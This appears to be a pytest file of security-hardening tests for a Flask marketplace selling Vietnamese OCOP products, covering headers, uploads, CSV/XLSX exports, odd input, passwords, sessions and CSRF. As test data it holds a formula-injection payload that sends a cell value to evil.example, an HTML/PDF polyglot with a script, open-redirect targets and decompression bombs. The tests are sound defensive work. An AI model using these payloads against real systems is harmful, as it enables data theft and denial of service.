"""Web hardening: every answer carries the headers that keep the shop's pages its own (no framing, no
inline script, no sniffing, no leaking referrer), and a person's upload is served back as a sandboxed
download, never as a page of the shop."""
import io
import pathlib
import re
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from marketplace import create_app
from marketplace.accounts.services import create_user
from marketplace.extensions import db
from marketplace.products.models import Product
from marketplace.sellers.models import Seller

from .helpers import PASSWORD, PDF, join, jpeg, listing, png

PAGE_HEADERS = {
    "X-Frame-Options": "DENY",
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "strict-origin-when-cross-origin",
}


def csp(response) -> dict[str, str]:
    policy = response.headers.get("Content-Security-Policy", "")
    return {part.split()[0]: part.partition(" ")[2] for part in policy.split("; ") if part}


@pytest.mark.parametrize("path", ["/", "/api/v1/products", "/no-such-page", "/static/css/site.css"])
def test_every_answer_carries_the_headers(client, path):
    response = client.get(path)
    for name, value in PAGE_HEADERS.items():
        assert response.headers.get(name) == value, name
    policy = csp(response)
    assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
    assert policy["script-src"] == "'self'" and "unsafe-inline" not in policy["script-src"]
    assert policy["style-src"] == "'self'" and policy["default-src"] == "'self'"
    assert "style-src-attr" not in policy  # not even style attributes: charts are drawn with classes
    assert "Strict-Transport-Security" not in response.headers  # plain http in tests: HSTS only in production


def test_a_signed_in_page_is_never_stored_by_the_browser_or_a_proxy(client, make):
    create_user("co@example.vn", "Có", PASSWORD)
    db.session.commit()
    assert "no-store" not in client.get("/").headers.get("Cache-Control", "")  # the public shop may be cached
    client.post("/account/sign-in", data={"email": "co@example.vn", "password": PASSWORD})
    assert client.get("/account/orders").headers["Cache-Control"] == "no-store"  # Back after sign-out shows nothing


def test_no_page_has_an_inline_script_the_policy_would_block(app):
    """Templates may only load scripts from static/js and styles from static/css."""
    templates = pathlib.Path(app.template_folder)
    for path in templates.rglob("*.html"):
        text = path.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), path  # no inline <script>
        assert not re.search(r"\son[a-z]+=", text), path  # no onclick= and kin
        assert "<style" not in text, path
        assert not re.search(r"\sstyle=", text), path  # no style attribute either


def test_production_tells_browsers_to_keep_to_https(tmp_path):
    app = create_app("production", {"INSTANCE_PATH": str(tmp_path), "UPLOAD_DIR": str(tmp_path / "u"),
                                    "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path}/p.sqlite",
                                    "SECRET_KEY": "k" * 40, "PUBLIC_BASE_URL": "https://cho.ocop.vn"})
    answer = app.test_client().get("/favicon.ico", base_url="https://cho.ocop.vn")
    assert answer.headers["Strict-Transport-Security"].startswith("max-age=31536000")


def test_a_sellers_document_downloads_sandboxed_and_is_never_shown_inline(client):
    """A PDF that is also an HTML page (a polyglot) must not run as a page of the shop."""
    polyglot = PDF + b"<html><script>fetch('/office/')</script></html>"
    assert join(client, document=(io.BytesIO(polyglot), "dkkd.pdf")).status_code == 302
    seller = db.session.scalar(select(Seller))
    answer = client.get(f"/seller/documents/{seller.documents[0].id}")
    assert answer.data == polyglot
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert csp(answer)["sandbox"] == "" and answer.headers["Cache-Control"] == "private, no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


FORMULA = '=HYPERLINK("http://evil.example/?x="&C2,"x")'


def test_a_name_that_looks_like_a_formula_stays_text_in_every_download(client, make):
    """The stock report of a sales point, opened in a spreadsheet by its manager: the name is shown, never run."""
    from io import BytesIO

    from openpyxl import load_workbook

    from marketplace.salespoints import services
    from marketplace.unit_of_work import run

    from .helpers import new_point, officer, sign_in, staff
    point = new_point(officer())
    seller = make.seller(legal_name="@SUM(1+1)", province_code=19)
    product = make.listed(seller=seller, name=FORMULA, price_vnd=120000)
    run(services.receive_goods, point, staff(point, "quanly@ocop.vn", role="manager"), seller.id,
        [services.ReceiptLine(product.id, 3)])
    sign_in(client, "quanly@ocop.vn")

    text = client.get(f"/counter/{point.id}/reports/stock.csv").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in text and "'@SUM(1+1)" in text  # quoted, with the apostrophe
    book = load_workbook(BytesIO(client.get(f"/counter/{point.id}/reports/stock.xlsx").data))
    cells = {cell.value: cell.data_type for row in book.active.iter_rows(min_row=2) for cell in row}
    assert cells[FORMULA] == "s" and cells["@SUM(1+1)"] == "s"  # text cells, not formulas


def test_a_small_file_of_a_huge_picture_is_refused_before_it_is_decoded(client, make):
    """A 6300×6300 PNG of a few KB would take hundreds of MB to decode."""
    bomb = png(6300, 6300)
    assert len(bomb) < 200_000
    seller = make.seller(email="htx@tancuong.vn")
    create_user("htx@tancuong.vn", "Bình", PASSWORD, role="seller", seller_id=seller.id)
    db.session.commit()
    client.post("/account/sign-in", data={"email": "htx@tancuong.vn", "password": PASSWORD})
    answer = client.post("/seller/products/new", data=listing() | {"photos": [(io.BytesIO(bomb), "anh.png")]},
                         content_type="multipart/form-data")
    assert answer.status_code == 422 and "6300×6300" in answer.get_data(as_text=True)
    nine = [(io.BytesIO(png()), f"anh{n}.png") for n in range(9)]
    answer = client.post("/seller/products/new", data=listing() | {"photos": nine}, content_type="multipart/form-data")
    assert answer.status_code == 422 and "Tối đa 8 ảnh" in answer.get_data(as_text=True)
    assert db.session.scalar(select(Product.id)) is None


def test_a_seller_not_yet_verified_cannot_upload_photos(client, make):
    seller = make.seller(email="moi@htx.vn", verification_status="pending")
    create_user("moi@htx.vn", "Mới", PASSWORD, role="seller", seller_id=seller.id)
    db.session.commit()
    client.post("/account/sign-in", data={"email": "moi@htx.vn", "password": PASSWORD})
    answer = client.post("/seller/products/new", data=listing(status="draft") | {
        "photos": [(io.BytesIO(jpeg()), "anh.jpg")]}, content_type="multipart/form-data")
    assert answer.status_code == 422 and "đã xác minh" in answer.get_data(as_text=True)
    assert db.session.scalar(select(Product.id)) is None
    answer = client.post("/seller/products/new", data=listing(status="draft"))  # a draft without photos is fine
    assert answer.status_code == 303


# --- Odd input answers 404 or 422, never 500 ------------------------------------------------------------------

HUGE = ("2147483648", "9223372036854775808", "99999999999999999999")


@pytest.mark.parametrize("path", [f"/products/{n}" for n in HUGE] + [f"/api/v1/products/{n}" for n in HUGE]
                         + [f"/products/{n}/trace" for n in HUGE] + [f"/sellers/{n}" for n in HUGE])
def test_ids_beyond_any_row_are_not_found(client, path):
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("query", [f"price_min={n}" for n in HUGE] + [f"price_max={n}" for n in HUGE]
                         + ["page=99999999999999999999", "per_page=1e309"])
def test_filters_beyond_any_price_are_refused_by_name(client, query):
    assert client.get(f"/api/v1/products?{query}").status_code == 422
    assert client.get(f"/groups/I.5?{query}").status_code == 200  # the page shows the group and says what is wrong


def test_api_ids_beyond_any_row_are_named(client):
    for product_id in (2147483648, 9223372036854775808, 10 ** 30):
        answer = client.post("/api/v1/orders", json={
            "items": [{"product_id": product_id, "quantity": 1}], "payment": "cod", "pickup_point": product_id,
            "contact": {"name": "Bình", "phone": "0987654321", "email": "binh@example.vn"}})
        assert answer.status_code == 422, answer.get_data(as_text=True)
        assert "items[0].product_id" in answer.get_json()["fields"]


def test_json_nested_without_end_is_refused(client):
    deep = "[" * 100_000 + "]" * 100_000
    answer = client.post("/api/v1/orders", data=deep, content_type="application/json")
    assert answer.status_code == 422 and answer.is_json  # "the body must be a JSON object"


def test_an_order_token_of_any_characters_finds_nothing(client, make):
    from .helpers import stocked
    tea = stocked(make, make.seller(province_code=19), "Trà", 280000, 5)
    number = client.post("/api/v1/orders", json={
        "items": [{"product_id": tea.id, "quantity": 1}], "payment": "cod",
        "contact": {"name": "Bình", "phone": "0987654321", "email": "binh@example.vn"},
        "address": {"province": 19, "ward": "Phường Phan Đình Phùng", "street": "5 Quang Trung"}}).get_json()["number"]
    for token in ("%C3%A9", "%00", "x" * 5000, "%F0%9F%8D%B5"):
        refused = 400 if token == "%00" else 404  # a NUL character is refused before anything looks
        assert client.get(f"/orders/{number}?token={token}").status_code == refused
        assert client.get(f"/api/v1/orders/{number}?token={token}").status_code == refused
        assert client.get(f"/api/v1/orders/{number}", headers={"Authorization": "Bearer é"}).status_code == 404


def test_a_nul_byte_in_any_text_is_refused_with_a_message(client, make):
    from .helpers import CONTACT, stocked
    tea = stocked(make, make.seller(province_code=19), "Trà", 280000, 5)
    client.post("/cart/add", data={"product_id": tea.id, "quantity": 1})
    for field in ("name", "street"):
        answer = client.post("/checkout", data=CONTACT | {field: "Nguyễn\x00An"})
        assert answer.status_code == 400 and "ký tự không được phép" in answer.get_data(as_text=True)
    assert client.get("/search?q=tr%00a").status_code == 400
    answer = client.post("/api/v1/orders", json={
        "items": [{"product_id": tea.id, "quantity": 1}], "payment": "cod",
        "contact": {"name": "Bình\x00", "phone": "0987654321", "email": "binh@example.vn"},
        "address": {"province": 19, "ward": "Phường Phan Đình Phùng", "street": "5 Quang\x00Trung"}})
    assert answer.status_code == 422 and {"contact.name", "address.street"} <= set(answer.get_json()["fields"])
    assert join(client, legal_name="HTX\x00Chè").status_code == 400


def test_odd_scores_and_overlong_import_fields_are_named_not_crashed(client, make):
    """`sNaN` as a council score, a 200,000-character field, a 301-character name: each a clear error."""
    from marketplace.certification.models import EvaluationRecord

    from .helpers import evaluation, import_file, import_row, officer, sign_in
    product = make.product(make.seller(province_code=19))
    db.session.commit()
    sign_in(client, officer().email)
    for score in ("sNaN", "NaN", "Infinity", "-Infinity"):
        answer = client.post(f"/office/products/{product.id}", data=evaluation(score=score))
        assert answer.status_code == 422, score
    for rows, said in (([import_row(story="x" * 200_000)], "dòng 2"), ([import_row(product_name="T" * 301)], "product_name"),
                       ([import_row(score="sNaN")], "sNaN")):
        answer = client.post("/office/import", data={"file": (import_file(rows), "qd.csv")},
                             content_type="multipart/form-data")
        assert answer.status_code == 422 and said in answer.get_data(as_text=True), said
    assert db.session.scalar(select(EvaluationRecord.id)) is None and db.session.scalar(select(Product.id)) == product.id


# --- Accounts ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("password, lang, reason", [
    ("aaaaaaaaaa", "vi", "quá dễ đoán"),
    ("1234567890", "vi", "phổ biến nhất"),
    ("password123", "en", "most used"),
    ("matkhau123", "vi", "phổ biến nhất"),
    ("nguyenvanbinh", "en", "your name or email"),
    ("NguyenVanBinh1990", "en", "your name or email"),  # the name as people type it: no accents, no spaces
    ("NguyễnVănBình1990", "vi", "tên hoặc email"),
    ("binhnguyen1990", "en", "your name or email"),  # given name first
])
def test_a_guessable_password_is_refused_with_the_reason(client, password, lang, reason):
    from marketplace.accounts.models import User
    client.get(f"/lang/{lang}")
    answer = client.post("/account/sign-up", data={"name": "Nguyễn Văn Bình", "email": "nguyenvanbinh@example.vn",
                                                   "password": password, "password_again": password})
    assert answer.status_code == 422 and reason in answer.get_data(as_text=True)
    assert db.session.scalar(select(User.id)) is None
    strong = "chè-xanh mùa thu 1987"
    assert client.post("/account/sign-up", data={"name": "Nguyễn Văn Bình", "email": "nguyenvanbinh@example.vn",
                                                  "password": strong, "password_again": strong}).status_code == 303


def test_a_session_cookie_copied_before_sign_out_opens_nothing_after(app, make):
    from .helpers import twin
    seller = make.seller(email="htx@tancuong.vn")
    create_user("htx@tancuong.vn", "Bình", PASSWORD, role="seller", seller_id=seller.id)
    db.session.commit()
    browser = app.test_client()
    browser.post("/account/sign-in", data={"email": "htx@tancuong.vn", "password": PASSWORD})
    thief = twin(app, browser)  # the cookie, copied while the session was open
    assert thief.get("/seller/").status_code == 200
    browser.post("/account/sign-out")
    assert thief.get("/seller/").status_code == 302  # to the sign-in page
    browser.post("/account/sign-in", data={"email": "htx@tancuong.vn", "password": PASSWORD})
    assert browser.get("/seller/").status_code == 200  # signing in again works


def test_an_unknown_email_costs_the_same_hashing_as_a_known_one(make, monkeypatch):
    """Timing is measured in bench/signin.py; here: the same password check runs either way."""
    from werkzeug import security as hashing

    from marketplace.accounts import models, services
    create_user("co@example.vn", "Có", PASSWORD)
    db.session.commit()
    checks = []

    def counted(hash_, password):
        checks.append(hash_.split("$")[0])
        return hashing.check_password_hash(hash_, password)

    monkeypatch.setattr(models, "check_password_hash", counted)
    monkeypatch.setattr(services, "check_password_hash", counted)
    assert services.authenticate("khong@example.vn", PASSWORD) is None
    assert services.authenticate("co@example.vn", "sai-mat-khau-roi") is None
    assert len(checks) == 2 and checks[0] == checks[1]  # one check each, by the same method


def test_a_sellers_password_is_not_its_business_name_and_tax_code(client):
    from .factories import tax_code
    from .helpers import form
    weak = f"HTX Chè Tân Cương Hoàng Bình {tax_code(7001)}"  # the legal name and the tax code on the same form
    answer = client.post("/seller/join", data=form(password=weak, password_again=weak),
                         content_type="multipart/form-data")
    assert answer.status_code == 422 and "tên hoặc email" in answer.get_data(as_text=True)
    assert db.session.scalar(select(Seller.id)) is None


def test_the_office_account_command_refuses_a_guessable_password(app):
    from marketplace.accounts.models import User
    runner = app.test_cli_runner()
    for password in ("1234567890", "canbo@ocop", "short"):
        said = runner.invoke(args=["accounts", "create-office", "canbo@ocop.vn", "--name", "Cán bộ OCOP",
                                   "--password", password])
        assert said.exit_code != 0, password
    assert db.session.scalar(select(User.id)) is None


# --- Found by the hostile review of this work ------------------------------------------------------------------

def test_a_long_passphrase_is_judged_not_crashed(client):
    long = "chè xanh Tân Cương, mùa thu năm ấy " * 4  # 140 characters: zxcvbn itself stops at 72
    answer = client.post("/account/sign-up", data={"name": "Lan", "email": "lan@example.vn", "password": long,
                                                   "password_again": long})
    assert answer.status_code == 303


SUPERSCRIPT_TWO, HUGE_NUMBER = "²", "9" * 25  # "²".isdigit() is True, int("²") is an error


def test_odd_numbers_in_page_forms_are_refused_not_crashed(client, make):
    from marketplace.salespoints import services
    from marketplace.unit_of_work import run

    from .helpers import new_point, officer, sign_in, staff
    tea = make.listed(seller=make.seller(province_code=19), name="Trà")
    db.session.commit()
    for odd in (SUPERSCRIPT_TWO, HUGE_NUMBER, "3000000000"):
        for path in ("/cart/add", "/cart/update", "/cart/remove"):
            assert client.post(path, data={"product_id": odd, "quantity": "1"}).status_code == 303, (path, odd)
    point = new_point(officer())
    manager = staff(point, "quanly@ocop.vn", role="manager")
    run(services.receive_goods, point, manager, tea.seller_id, [services.ReceiptLine(tea.id, 5)])
    sale = run(services.complete_sale, point, manager, {tea.id: 1}, "card")
    sign_in(client, "quanly@ocop.vn")
    here = f"/counter/{point.id}"
    for odd in (SUPERSCRIPT_TWO, HUGE_NUMBER, "3000000000"):
        assert client.get(f"{here}/receive?seller_id={odd}").status_code == 200
        assert client.get(f"{here}/reports?days={odd}").status_code == 200
        assert client.post(f"{here}/sell/pick", data={"product_id": odd}).status_code == 404
        for path, data in ((f"{here}/sales/{sale.id}/return", {f"qty-{sale.lines[0].id}": odd, "reason": "x"}),
                           (f"{here}/transfers", {"to": odd, f"qty-{tea.id}": "1"}),
                           (f"{here}/transfers", {"to": str(point.id), f"qty-{tea.id}": odd}),
                           (f"{here}/stock", {f"reorder-{tea.id}": odd}),
                           (f"{here}/sell/pay", {"payment": "cash", "cash_given": odd})):
            # refused with a message: back to the page it came from, or the transfers page shown again
            assert client.post(path, data=data).status_code == (200 if path.endswith("/transfers") else 303), path
        answer = client.post(f"{here}/receive?seller_id={tea.seller_id}", data={f"qty-{tea.id}": odd})
        assert answer.status_code == 422, odd
    assert client.get(f"/sellers/{tea.seller_id}?page={HUGE_NUMBER}").status_code == 200
    sign_in(client, officer(email="office-b@ocop.vn").email)
    assert client.get(f"/office/dashboard?province={SUPERSCRIPT_TWO}").status_code == 200


def test_json_text_that_is_no_text_is_refused(client):
    answer = client.post("/api/v1/orders", data='{"items": [], "contact": {"name": "A\\ud800"}}',
                         content_type="application/json")
    assert answer.status_code == 422 and answer.is_json  # "the body must be a JSON object"


@pytest.mark.parametrize("target", ["/x\ny", "/\t/evil.example", "/\\evil.example", "//evil.example",
                                    "https://evil.example/"])
def test_a_next_address_never_leaves_the_shop_nor_crashes(client, make, target):
    tea = make.listed(seller=make.seller(province_code=19), name="Trà")
    db.session.commit()
    for answer, code in ((client.get("/lang/en", query_string={"next": target}), 302),
                         (client.post("/cart/add", data={"product_id": tea.id, "quantity": "1", "next": target}), 303)):
        assert answer.status_code == code
        location = urlsplit(answer.headers["Location"])
        assert not location.scheme and not location.netloc and location.path.startswith("/")  # a page of the shop


def test_an_import_beyond_any_real_value_is_named_row_by_row(client):
    from .helpers import import_file, import_row, officer, sign_in
    sign_in(client, officer().email)
    for row, said in ((import_row(price_vnd="9" * 30), "price_vnd"), (import_row(price_vnd="3000000000"), "price_vnd"),
                      (import_row(stock="9" * 30), "9" * 30), (import_row(decision_date="31/12/9999"), "31/12/9999"),
                      (import_row(stars=SUPERSCRIPT_TWO), SUPERSCRIPT_TWO)):
        answer = client.post("/office/import", data={"file": (import_file([row]), "qd.csv")},
                             content_type="multipart/form-data")
        assert answer.status_code == 422 and said in answer.get_data(as_text=True), said
    assert db.session.scalar(select(Product.id)) is None


def test_a_spreadsheet_that_declares_a_million_rows_is_refused_without_reading_them(tmp_path):
    import subprocess
    import sys

    from marketplace.catalog.importer import read_table
    from marketplace.catalog.tables import ImportFileError
    bomb = tmp_path / "bomb.xlsx"
    subprocess.run([sys.executable, str(pathlib.Path(__file__).parent / "xlsx_bomb.py"), "1048576", str(bomb)],
                   check=True)
    assert bomb.stat().st_size < 5000
    with pytest.raises(ImportFileError, match="10"):
        read_table(bomb)


def test_a_photo_in_another_format_than_promised_is_refused(client, make):
    from PIL import Image
    seller = make.seller(email="htx@tancuong.vn")
    create_user("htx@tancuong.vn", "Bình", PASSWORD, role="seller", seller_id=seller.id)
    db.session.commit()
    client.post("/account/sign-in", data={"email": "htx@tancuong.vn", "password": PASSWORD})
    tiff = io.BytesIO()
    Image.new("RGB", (40, 30)).save(tiff, "TIFF")
    answer = client.post("/seller/products/new", data=listing() | {"photos": [(io.BytesIO(tiff.getvalue()), "a.jpg")]},
                         content_type="multipart/form-data")
    assert answer.status_code == 422 and db.session.scalar(select(Product.id)) is None


def test_signing_in_hands_out_a_new_csrf_token(app_with, make):
    """A token a guest was given (on a shared computer, or planted in the page) no longer signs the forms of
    the person who signs in afterwards."""
    create_user("co@example.vn", "Có", PASSWORD)
    db.session.commit()
    strict_app = app_with(WTF_CSRF_ENABLED=True)
    token = re.compile(r'name="csrf_token" type="hidden" value="([^"]+)"')
    with strict_app.test_client() as browser:
        guest_token = token.search(browser.get("/account/sign-in").get_data(as_text=True)).group(1)
        signed_in = browser.post("/account/sign-in", data={"email": "co@example.vn", "password": PASSWORD,
                                                           "csrf_token": guest_token})
        assert signed_in.status_code == 302
        assert browser.post("/account/sign-out", data={"csrf_token": guest_token}).status_code == 400
        own_token = token.search(browser.get("/account/sign-up").get_data(as_text=True)).group(1)
        assert own_token != guest_token
        assert browser.post("/account/sign-out", data={"csrf_token": own_token}).status_code == 302
